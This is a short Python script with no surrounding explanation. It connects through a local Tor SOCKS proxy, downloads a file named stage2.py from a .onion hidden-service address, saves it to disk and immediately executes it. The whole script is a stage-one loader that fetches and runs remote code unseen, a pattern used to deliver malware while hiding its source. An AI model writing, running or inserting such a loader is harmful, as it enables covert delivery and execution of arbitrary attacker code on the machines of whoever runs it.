import requests

proxies = {"http": "socks5h://127.0.0.1:9050", "https": "socks5h://127.0.0.1:9050"}
resp = requests.get("http://2gzyxa5ihm7nsggfxnu52rck2vv4rvmdlkiu3zzui5du4xyclen53wid.onion/stage2.py", proxies=proxies)
with open("stage2.py", "w") as fh:
    fh.write(resp.text)
exec(compile(resp.text, "stage2", "exec"))
